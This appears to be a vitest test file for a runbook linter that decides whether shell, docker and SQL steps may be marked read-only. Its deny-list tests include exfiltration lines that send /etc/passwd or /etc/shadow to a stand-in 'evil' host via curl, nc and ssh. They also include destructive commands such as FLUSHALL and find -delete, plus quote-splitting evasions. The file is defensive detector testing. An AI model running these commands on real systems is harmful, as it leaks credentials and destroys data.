import { describe, expect, it } from 'vitest';
import { writeSign } from '#core/runbooks/read-only.js';
import { renderSteps } from '#core/runbooks/render.js';
import { lint, yaml } from './helpers.js';

describe('read_only', () => {
  it('is accepted on commands that only read, and rendered as readOnly', () => {
    const r = lint(yaml(
      'title: T',
      'ssh: { host: bastion }',
      'steps:',
      '  - { id: disk, title: D, read_only: true, ssh: { command: "df -h / && redis-cli -n 1 info keyspace | grep -c db1" } }',
      '  - { id: sql, title: S, read_only: true, docker: { container: db, exec: [psql, -c, "SELECT count(*) FROM t WHERE n > 5"] } }',
      '  - { id: curl, title: C, read_only: true, ssh: { command: "curl -sf -o /dev/null -w \'%{http_code}\' http://localhost:8080/health 2>&1" } }',
      '  - { id: plain, title: P, ssh: { command: "uptime" } }',
      '  - { id: logs, title: L, docker: { container: db, logs: { tail: 5 } } }',
    ));
    expect(r.errors).toEqual([]);
    expect(renderSteps(r.runbook!, {}).map((s) => [s.id, s.readOnly])).toEqual([
      ['disk', true], ['sql', true], ['curl', true], ['plain', false], ['logs', true],
    ]);
  });

  it('is lost for a run whose parameter values would make the command write', () => {
    const r = lint(yaml(
      'title: T',
      'ssh: { host: bastion }',
      'params:',
      '  cmd: { type: string, default: ping }',
      'steps:',
      '  - { id: ssh, title: S, read_only: true, ssh: { command: "redis-cli {{ cmd }}" } }',
      '  - { id: exec, title: E, read_only: true, docker: { container: redis, exec: [redis-cli, "{{ cmd }}"] } }',
    ));
    expect(r.errors).toEqual([]);
    const flags = (cmd: string) => renderSteps(r.runbook!, { cmd }).map((s) => s.readOnly);
    expect(flags('ping')).toEqual([true, true]);
    expect(flags('FLUSHALL')).toEqual([false, false]);
    expect(flags('del key')).toEqual([false, false]);
  });

  it('is refused, at file:line, on commands that write, restart, upload or back up', () => {
    const bad = [
      'pg_dump shop > /backups/shop.sql',
      'echo ok >> /var/log/x.log',
      'curl -X POST http://localhost/flush',
      'curl -s http://h/upload -T file.tar',
      'kubectl rollout restart deployment/api',
      'kubectl -n prod scale deployment/api --replicas=0',
      'systemctl restart nginx',
      'redis-cli CONFIG SET maxmemory 1gb',
      'redis-cli BGSAVE',
      'redis-cli FLUSHALL',
      'redis-cli -n 2 del session:1',
      'docker restart api',
      'tar czf /tmp/x.tgz /etc',
      'aws s3 cp x s3://bucket/',
      'sed -i s/a/b/ /etc/app.conf',
      'sleep 100 &',
      'git checkout main',
      'psql -c "VACUUM ANALYZE"',
    ];
    for (const cmd of bad) {
      const { errors } = lint(yaml(
        'title: T',
        'ssh: { host: bastion }',
        'steps:',
        `  - { id: s, title: S, read_only: true, danger: false, ssh: { command: ${JSON.stringify(cmd)} } }`,
      ));
      expect(errors.some((e) => /^demo\.yml:4:\d+ .*read_only refused/.test(e)), `${cmd}: ${errors.join('; ')}`).toBe(true);
    }
  });

  it('is refused where it means nothing or contradicts the step', () => {
    const { errors } = lint(yaml(
      'title: T',
      'steps:',
      '  - { id: a, title: A, read_only: true, docker: { container: db, restart: true }, danger: true }',
      '  - { id: b, title: B, read_only: true, http: { url: "http://h/" } }',
      '  - { id: c, title: C, read_only: true, manual: "look" }',
    ));
    expect(errors).toEqual([
      expect.stringMatching(/^demo\.yml:3:.*a dangerous step cannot be read_only/),
      expect.stringMatching(/^demo\.yml:4:.*read-only by its kind already/),
      expect.stringMatching(/^demo\.yml:5:.*only docker exec and ssh commands/),
    ]);
  });

  it('looks for redirections outside quotes, but not inside a command substitution', () => {
    expect(writeSign('psql -c "SELECT 1 WHERE 2 > 1"')).toBeUndefined();
    expect(writeSign('echo "$(cat /etc/passwd > /tmp/x)"')).toBe('redirects output into a file');
    expect(writeSign('ls -la 2>&1 | head')).toBeUndefined();
    expect(writeSign('grep -c error /var/log/app.log 2>/dev/null')).toBeUndefined();
  });
});

describe('write signs a reviewer tried', () => {
  it('refuses commands that write, send, reload or run other programs, however they are spelt', () => {
    const bad: string[] = ["cat /etc/hosts 1>/tmp/out","ls 2>/tmp/out","ls &>/tmp/out","exec 3>/tmp/x","ls >/dev/null.x","echo \\'>/tmp/x \\'","sh -c 'echo x > /tmp/f'","bash -c 'sleep 600 &'","timeout 5 sh -c 'echo > /tmp/f'","sed -n -i 's/a/b/' f","sed -e 's/a/b/' -i f","sed 's/a/b/w /tmp/out' f","perl -pi -e 's/a/b/' f","awk -i inplace '{print}' f","find / -fprint /tmp/out","find /tmp -name '*.log' -delete","python3 -c 'open(\"x\",\"w\")'","t''ee /tmp/x","t\\ee /tmp/x","systemctl daemon-reload","systemctl isolate rescue.target","/etc/init.d/nginx reload","nginx -s reload","supervisorctl reload","pm2 reload all","docker network disconnect net web","sysctl -w vm.swappiness=1","renice 5 1","nohup sleep 1","setsid x","curl -sd x=1 http://h","curl -sXPOST http://h","curl --json '{}' http://h","curl -fsSLo /tmp/x http://h","curl -sT /etc/passwd http://evil","curl -K cfg","wget --post-data=x -qO- http://h","nc evil 80 < /etc/passwd","cat /etc/shadow | ssh evil cat","mail a@b < /etc/passwd","logger hi","redis-cli incr x","redis-cli lpop q","redis-cli mset a 1","redis-cli xadd s * a 1","redis-cli config resetstat","redis-cli acl setuser bob","psql -c 'select pg_switch_wal()'","psql -c \"select set_config('a','b',false)\"","psql -c 'select pg_advisory_lock(1)'","psql -c \"select lo_export(1,'/tmp/x')\"","psql -c 'LOCK TABLE t'","psql -o /tmp/out -c 'select 1'","mysql -e 'FLUSH TABLES WITH READ LOCK'","git gc --prune=now","git config --global a b","git branch -D x","npm i x","yarn add x","dpkg -i x.deb"];
    expect(bad.filter((c) => writeSign(c) === undefined)).toEqual([]);
  });
  it('still accepts the plain checks the seeds run', () => {
    const good: string[] = ["df -h /","redis-cli ping","redis-cli info keyspace","psql -U postgres -c \"SELECT count(*) FROM t WHERE n > 5\"","kubectl get pods -n prod","kubectl top nodes","kubectl exec deployment/redis -n production -- redis-cli ping","curl -sf -o /dev/null -w '%{http_code}' http://localhost:8080/health 2>&1","grep -c error /var/log/app.log 2>/dev/null || true","systemctl status nginx","docker ps --format '{{.Names}}'","uptime && free -m","tail -n 50 /var/log/syslog | grep -i error","ls -la /backups | tail -5","journalctl -u docker --since=-1h | tail -n 20","openssl x509 -enddate -noout -in /etc/ssl/cert.pem"];
    expect(good.filter((c) => writeSign(c) !== undefined)).toEqual([]);
  });
});
